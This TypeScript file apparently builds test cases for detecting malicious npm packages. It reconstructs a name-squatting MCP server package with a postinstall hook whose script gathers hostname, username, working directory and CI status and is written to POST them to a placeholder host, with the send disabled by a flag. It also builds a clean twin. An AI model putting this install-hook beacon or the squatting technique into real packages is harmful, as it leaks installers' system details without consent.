import type { ReconstructedCase } from '../case.ts';
import { tidesServer } from '../bases/tides-server.ts';
import { source } from '../source.ts';
import { type Draft, positive, type Technique, twin } from '../story.ts';

const ABOUT: Technique = {
  id: 'reference-squat',
  campaign: 'mcp-server-everything',
  technique: 'the name of a reference server without its scope, with an install hook',
  follows: 'MAL-2025-46986',
};

const BEACON = source`
  const https = require('https');
  const os = require('os');

  const RECONSTRUCTED = true;
  const data = JSON.stringify({
    package: process.env.npm_package_name,
    hostname: os.hostname(),
    user: os.userInfo().username,
    cwd: process.cwd(),
    ci: process.env.CI || null,
  });

  if (!RECONSTRUCTED) {
    const request = https.request({
      hostname: 'npx-canary-log.saltfog-workers.invalid',
      path: '/log',
      method: 'POST',
      headers: { 'Content-Type': 'application/json', 'Content-Length': data.length },
    });
    request.on('error', () => {});
    request.end(data);
  }
`;

export const referenceSquat: readonly ReconstructedCase[] = [
  positive(ABOUT, {
    variant: 'from-the-first-release',
    note: 'one release, a hook that runs a file, no repository',
    name: 'mcp-server-everyberth',
    brand: 'berth-ghost',
    base: (identity) => {
      const draft = withHook(tidesServer(identity));
      return { ...draft, manifest: { ...draft.manifest, repository: null, homepage: null } };
    },
    steps: [{ version: '2.0.0', daysAgo: 15 }],
  }),
  twin(ABOUT, {
    variant: 'first-release',
    note: 'a first release without a hook',
    name: 'mcp-server-lastberth',
    brand: 'berth-office',
    base: tidesServer,
    steps: [{ version: '2.0.0', daysAgo: 15 }],
  }),
];

function withHook(draft: Draft): Draft {
  return {
    ...draft,
    manifest: { ...draft.manifest, scripts: { postinstall: 'node postinstall.js' } },
    files: { ...draft.files, 'postinstall.js': BEACON },
  };
}
